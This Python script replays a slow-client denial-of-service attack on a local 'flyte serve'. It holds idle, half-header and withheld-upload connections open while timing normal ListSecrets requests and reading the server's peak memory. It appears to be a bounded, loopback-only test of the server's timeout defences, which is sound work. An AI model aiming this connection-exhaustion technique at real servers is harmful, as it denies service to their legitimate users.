#!/usr/bin/env python3
"""Replays the slow-client attack on a running `flyte serve` (loopback only, bounded).

Opens IDLE connections that send nothing, HALF_HEADER connections that stop inside the
headers, and UPLOADS connections that declare a 1 MiB body and send all but its last byte;
meanwhile a well-behaved client sends one ListSecrets per 100 ms on fresh connections.
Prints one JSON line: peak RSS of the server, when the first idle connection was closed,
and how the well-behaved client fared.
"""
import json, socket, sys, threading, time

def main():
    host, port = "127.0.0.1", int(sys.argv[1])
    pid = int(sys.argv[2])
    idle_n, half_n, upload_n, seconds = (int(a) for a in sys.argv[3:7])
    body = b'{"organization":"127","project":"p","domain":"d"}'
    path = "/flyteidl2.secret.SecretService/ListSecrets"
    req = (f"POST {path} HTTP/1.1\r\nhost: {host}:{port}\r\ncontent-type: application/json\r\n"
           f"content-length: {len(body)}\r\nconnection: close\r\n\r\n").encode() + body
    mib = 1 << 20
    upload_head = (f"POST {path} HTTP/1.1\r\nhost: {host}:{port}\r\ncontent-type: application/json\r\n"
                   f"content-length: {mib}\r\n\r\n").encode()
    socks, closed_at = [], {}
    start = time.monotonic()

    def watch(s, key):
        s.settimeout(seconds + 5)
        try:
            while s.recv(65536):
                pass
        except OSError:
            pass
        closed_at.setdefault(key, time.monotonic() - start)

    def open_conn(payload, key):
        s = socket.create_connection((host, port))
        if payload:
            try:
                s.sendall(payload)
            except OSError:
                pass
        socks.append(s)
        threading.Thread(target=watch, args=(s, key), daemon=True).start()

    for i in range(idle_n):
        open_conn(b"", f"idle{i}")
    for i in range(half_n):
        open_conn(f"POST {path} HTTP/1.1\r\nhost: {host}\r\n".encode(), f"half{i}")
    filler = b"x" * (mib - 1)
    for i in range(upload_n):
        threading.Thread(target=open_conn, args=(upload_head + filler, f"up{i}"), daemon=True).start()

    ok = failed = 0
    lat = []
    peak = 0
    while time.monotonic() - start < seconds:
        t = time.monotonic()
        try:
            with socket.create_connection((host, port), timeout=5) as g:
                g.sendall(req)
                data = b""
                while True:
                    chunk = g.recv(65536)
                    if not chunk:
                        break
                    data += chunk
            if data.startswith(b"HTTP/1.1 200"):
                ok += 1
                lat.append(time.monotonic() - t)
            else:
                failed += 1
        except OSError:
            failed += 1
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("VmHWM:"):
                    peak = max(peak, int(line.split()[1]))
        time.sleep(0.1)
    idle_closed = sorted(v for k, v in closed_at.items() if k.startswith("idle"))
    lat.sort()
    print(json.dumps({
        "peak_rss_mib": round(peak / 1024, 1),
        "first_idle_closed_s": round(idle_closed[0], 1) if idle_closed else None,
        "idle_closed": len(idle_closed),
        "good_ok": ok, "good_failed": failed,
        "good_p50_ms": round(lat[len(lat) // 2] * 1000, 1) if lat else None,
        "good_max_ms": round(lat[-1] * 1000, 1) if lat else None,
    }))
    for s in socks:
        s.close()

if __name__ == "__main__":
    main()
